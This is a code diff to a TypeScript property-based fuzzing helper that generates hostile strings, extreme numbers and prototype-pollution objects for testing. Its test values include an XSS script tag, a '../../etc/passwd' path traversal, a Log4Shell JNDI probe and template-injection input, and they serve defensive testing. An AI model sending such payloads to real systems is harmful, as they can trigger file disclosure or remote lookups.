@@ -39,6 +39,7 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
     '-1',
     '<script>alert(1)</script>',
     '../../etc/passwd',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent as it is
     '${jndi:ldap://x/a}',
     '{{7*7}}',
     '__proto__',
@@ -50,6 +51,7 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
 export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
   fc.integer(),
   fc.double({ noNaN: true, noDefaultInfinity: true }),
+  // biome-ignore lint/correctness/noPrecisionLoss: numbers JSON cannot carry exactly are the point
   fc.constantFrom(-1, 0, -0, 0.5, 1e308, -1e308, 2 ** 53 + 1, -(2 ** 63), 1e-9, 123456789012345678901234567890, 99999999999.999),
 );
 
@@ -107,7 +109,6 @@ export function fromSchema(schema: Schema | undefined, depth = 0): fc.Arbitrary<
       return fc.constant(null);
     case 'array':
       return fc.array(fromSchema(schema.items, depth + 1), { minLength: schema.minItems ?? 0, maxLength: Math.max(schema.minItems ?? 0, 3) });
-    case 'object':
     default: {
       const props: Record<string, Schema> = schema.properties ?? {};
       if (!Object.keys(props).length) return type === 'object' ? fc.constant({}) : leaf;
@@ -132,6 +133,7 @@ export function mutated(schema: Schema | undefined): fc.Arbitrary<unknown> {
       else {
         // Prototype-ish keys as own properties, "__proto__" included (JSON.stringify writes an own,
         // enumerable "__proto__" property as a plain key).
+        // biome-ignore lint/complexity/useLiteralKeys: v.constructor is typed as Function; this sets a plain own key
         v['constructor'] = { prototype: { polluted: 1 } };
         v.prototype = hostile;
         Object.defineProperty(v, '__proto__', { value: { polluted: hostile }, enumerable: true, configurable: true, writable: true });
